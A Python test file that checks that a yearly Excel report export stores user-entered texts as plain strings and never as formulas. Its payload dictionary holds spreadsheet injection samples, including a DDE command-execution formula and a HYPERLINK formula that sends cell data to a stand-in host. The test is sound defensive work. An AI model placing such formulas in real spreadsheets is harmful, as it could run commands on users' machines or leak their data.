"""The yearly workbook writes the office's texts as text: nothing in it can run as a formula."""

import io
import zipfile

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlmodel import Session

from tests.factories import World
from tests.metrology_svc.reports.support import make_year
from tests.metrology_svc.stamps.support import API

PAYLOADS = {
    "achievements": "=cmd|' /C calc'!A0",
    "shortcomings": "@SUM(1)",
    "next_steps": '=HYPERLINK("http://x.example/?d="&A1,"Bấm")',
    "proposals": "-1+1",
}


def test_the_offices_texts_are_string_cells_never_formulas(
    client: TestClient, db: Session, world: World
) -> None:
    make_year(client, db, world)
    texts = {"unit_code": "18754", "period_from": "2026-01-01", "period_to": "2026-12-31"}
    saved = client.put(f"{API}/reports/texts", json=texts | PAYLOADS, headers=world.auth("admin"))
    assert saved.is_success, saved.text
    params = {"unit_code": "18754", "year": 2026}
    r = client.get(f"{API}/reports/yearly.xlsx", params=params, headers=world.auth("admin"))
    assert r.status_code == 200, r.text
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 10
        assert not [n for n in sheets if b"<f>" in z.read(n) or b"<f " in z.read(n)]
    words = load_workbook(io.BytesIO(r.content))["Đánh giá - nhiệm vụ"]
    cells = {c.value: c.data_type for row in words.iter_rows() for c in row if c.value}
    for text in PAYLOADS.values():
        assert cells[text] == "s"
    disposition = r.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="bao-cao-do-luong-18754-2026.xlsx"')
    assert "filename*=UTF-8''bao-cao-do-luong-18754-2026.xlsx" in disposition
